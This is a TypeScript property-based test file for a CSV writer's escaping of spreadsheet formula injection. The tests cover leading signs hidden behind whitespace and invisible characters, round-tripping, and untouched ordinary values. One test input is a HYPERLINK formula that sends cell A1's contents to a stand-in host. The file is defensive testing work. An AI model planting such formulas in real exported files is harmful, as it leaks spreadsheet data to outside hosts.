import fc from "fast-check";
import Papa from "papaparse";
import { expect, it } from "vitest";
import { csvLines, textOfCell } from "./csv";

const cellsOf = (text: string): string[] =>
  Papa.parse<string[]>(text.replace(/\r\n$/, ""), { newline: "\r\n", delimiter: "," }).data[0] ?? [];
const written = (value: unknown): string => cellsOf(csvLines([["first", value]]))[1] ?? "";

/** What programs skip before they look for the sign of a formula. */
const skipped = fc.string({
  unit: fc.constantFrom(
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u00ad",
    "\u2028",
    "\u3000",
    "\u202e",
    "\u2063",
    "\u3164",
  ),
  maxLength: 4,
});
const sign = fc.constantFrom(..."=+-@＝＋－＠");
const rest = fc.string({ unit: fc.constantFrom(..."aZ1(),;\"' \r\n:/?&=") });

it("escapes a text that a spreadsheet would run, whatever is before its sign and behind it", () => {
  fc.assert(
    fc.property(skipped, sign, rest, (before, first, after) => {
      const text = before + first + after;
      expect(written(text)).toBe(`'${text}`);
      expect(textOfCell(written(text))).toBe(text);
    }),
  );
  expect(written('=HYPERLINK("http://x.example/?"&A1,"see")\nmore')).toMatch(/^'=/);
  expect(["\ttext", "\rtext", "\n=1"].map(written)).toEqual(["'\ttext", "'\rtext", "'\n=1"]);
});

it("gives back a text that already looks escaped, however often", () => {
  fc.assert(
    fc.property(fc.nat({ max: 3 }), skipped, sign, rest, (quotes, before, first, after) => {
      const text = "'".repeat(quotes) + before + first + after;
      expect(textOfCell(written(text))).toBe(text);
    }),
  );
});

it("leaves every other text and every figure as it is, and gives back what was written", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme" }), (text) => {
      expect(textOfCell(written(text))).toBe(text);
    }),
  );
  expect([-1, -0.5, 0, 12].map(written)).toEqual(["-1", "-0.5", "0", "12"]);
  expect(["A pier = a place", "it's", "'quoted'", "2 + 2"].map(written)).toEqual([
    "A pier = a place",
    "it's",
    "'quoted'",
    "2 + 2",
  ]);
});
